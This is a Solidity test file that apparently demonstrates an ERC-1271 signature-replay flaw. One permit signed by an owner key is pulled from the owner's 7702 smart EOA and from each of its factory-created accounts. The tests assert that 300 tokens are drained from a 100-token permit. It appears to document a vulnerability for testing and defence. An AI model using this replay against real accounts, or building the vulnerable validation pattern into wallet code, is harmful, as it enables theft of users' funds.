// SPDX-License-Identifier: MIT
pragma solidity ^0.8.29;

import {vm} from "./utils/Vm.sol";
import {UserOpBase} from "./utils/UserOpBase.sol";
import {Call} from "../types/Types.sol";
import {SessionAccount} from "../SessionAccount.sol";
import {PermitVerifier} from "../fixtures/PermitVerifier.sol";

/// @notice ERC-1271 across the accounts one key controls: the owner's 7702 smart EOA and its
///         factory accounts. With a Permit2-style verifier (the signed struct does not name the
///         owner), a signature that more than one account accepts is spent on each of them.
contract Erc1271Test is UserOpBase {
    PermitVerifier internal verifier;
    SessionAccount internal clone1;
    SessionAccount internal clone2;
    address internal spender;

    uint256 internal constant AMOUNT = 100 ether;

    function setUp() public override {
        super.setUp();
        verifier = new PermitVerifier();
        spender = vm.addr(0x5BE4D);
        clone1 = SessionAccount(payable(factory.createAccount(ownerAddr, keccak256("clone 1"))));
        clone2 = SessionAccount(payable(factory.createAccount(ownerAddr, keccak256("clone 2"))));
        token.mint(address(clone1), 1_000 ether);
        token.mint(address(clone2), 1_000 ether);
        // Each account approves the verifier once, as Permit2 users do.
        Call[] memory approve = _one(address(token), 0, abi.encodeCall(token.approve, (address(verifier), 1e30)));
        _execOwner(approve);
        vm.prank(ownerAddr);
        clone1.execute(approve);
        vm.prank(ownerAddr);
        clone2.execute(approve);
    }

    /// @dev The owner key's plain (raw ECDSA) signature of the verifier's digest, as an ordinary
    ///      wallet makes it for its EOA.
    function _rawPermit(uint256 nonce) internal view returns (bytes memory) {
        return _signDigest(OWNER_PK, verifier.digest(address(token), AMOUNT, nonce, spender));
    }

    function _pull(address from, uint256 nonce, bytes memory sig) internal returns (bool ok) {
        vm.prank(spender);
        try verifier.pull(from, address(token), AMOUNT, nonce, sig) {
            ok = true;
        } catch {}
    }

    /// @dev The attack: one 100-token permit, signed once by the key, is pulled from the EOA and
    ///      from each factory account of the same key: 300 tokens.
    function test_replay_onePermitPulledFromEveryAccountOfTheKey() public {
        bytes memory sig = _rawPermit(0);
        vm.assertTrue(_pull(ownerAddr, 0, sig), "EOA");
        vm.assertTrue(_pull(address(clone1), 0, sig), "replayed on clone 1");
        vm.assertTrue(_pull(address(clone2), 0, sig), "replayed on clone 2");
        vm.assertEq(token.balanceOf(spender), 3 * AMOUNT, "one 100-token permit pulled 300 tokens");
    }

    /// @dev A plain permit the EOA signed for itself drains its factory account.
    function test_replay_plainEoaPermitDrainsItsFactoryAccount() public {
        bytes memory sig = _rawPermit(7);
        vm.assertTrue(_pull(address(clone1), 7, sig), "the clone accepts the EOA's signature");
        vm.assertEq(token.balanceOf(spender), AMOUNT, "drained from the clone");
    }
}
